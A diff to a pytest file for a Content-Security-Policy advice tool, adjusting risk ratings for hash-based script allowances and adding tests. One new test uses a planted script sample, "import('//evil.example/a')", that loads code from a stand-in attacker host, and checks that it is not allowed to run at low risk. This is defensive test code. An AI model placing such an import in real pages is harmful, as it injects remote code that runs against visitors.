@@ -25,7 +25,7 @@ def advice(directive, blocked="inline", *, source="", **more):
         ("script-src-elem", "inline", {"source": "/lib.js"},
          {"script-src": ("'unsafe-inline'",)}, "high"),
         ("script-src-elem", "inline", {"hash": HASH},
-         {"script-src": (f"'{HASH}'",)}, "low"),
+         {"script-src": (f"'{HASH}'",)}, "medium"),
         ("script-src-elem", "inline", {"hash": HASH, "sample": "javascript:go()"},
          {"script-src": ("'unsafe-hashes'", f"'{HASH}'")}, "medium"),
         ("script-src-elem", "inline", {"sample": "javascript:" + "go();" * 6},
@@ -216,3 +216,16 @@ def test_what_was_reported_is_allowed_and_nothing_else_stops(preset):
         parts = [part for one, (_, part) in zip(advice, reports, strict=True) if one.change]
         wrong += [(reports, part) for part in [*parts, *own] if not is_allowed(sent, part, PAGE)]
     assert wrong == []
+
+
+@pytest.mark.parametrize("directive", ["script-src-elem", "script-src-attr", "style-src-elem"])
+def test_a_hash_is_said_to_be_that_of_a_text_without_blanks_around_it(directive):
+    assert (
+        "Browsers report a text without the blanks around it" in advice(directive, hash=HASH).cost
+    )
+
+
+def test_a_text_that_somebody_sent_is_not_allowed_to_run_at_a_low_risk():
+    planted = advice("script-src-elem", hash=HASH, sample="import('//evil.example/a')")
+    assert as_settings([planted], read_policy(STRICT, "preset"), "low") == {}
+    assert "read it first" in planted.cost
